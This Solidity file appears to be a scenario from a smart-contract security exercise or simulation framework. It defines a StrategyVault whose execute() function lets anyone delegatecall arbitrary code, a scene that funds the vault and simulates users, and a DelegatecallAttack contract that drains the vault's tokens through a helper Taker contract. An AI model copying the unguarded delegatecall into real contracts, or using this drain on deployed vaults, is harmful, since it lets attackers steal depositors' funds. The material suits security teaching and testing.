// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Runs whatever strategy it is told, as itself.
contract StrategyVault {
    IERC20 public immutable asset;
    mapping(address => uint256) public balanceOf;
    uint256 public harvests;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function execute(address strategy, bytes calldata data) external {
        (bool ok,) = strategy.delegatecall(data);
        require(ok, "strategy");
    }
}

/// The strategy that keepers use.
contract Harvest {
    address private reserved;
    uint256 public harvests;

    function harvest() external {
        harvests += 1;
    }
}

contract Taker {
    function take(IERC20 token, address to, uint256 amount) external {
        token.transfer(to, amount);
    }
}

contract DelegatecallScene is Scene {
    Token public usd;
    StrategyVault public vault;
    Harvest public strategy = new Harvest();

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new StrategyVault(IERC20(address(usd)));
        usd.mint(address(vault), 2_500_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(StrategyVault.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(StrategyVault.deposit, (_amount(dice, 100e18, 20_000e18))));
    }

    function errand(uint256) external view override returns (address, address, uint256, bytes memory) {
        bytes memory call = abi.encodeCall(Harvest.harvest, ());
        return (address(this), address(vault), 0, abi.encodeCall(StrategyVault.execute, (address(strategy), call)));
    }
}

contract DelegatecallAttack is Attack {
    StrategyVault private immutable vault;
    Taker private immutable taker = new Taker();

    constructor(DelegatecallScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 bite = loot0.balanceOf(address(vault)) / (count - index);
        vault.execute(address(taker), abi.encodeCall(Taker.take, (loot0, address(this), bite)));
    }
}
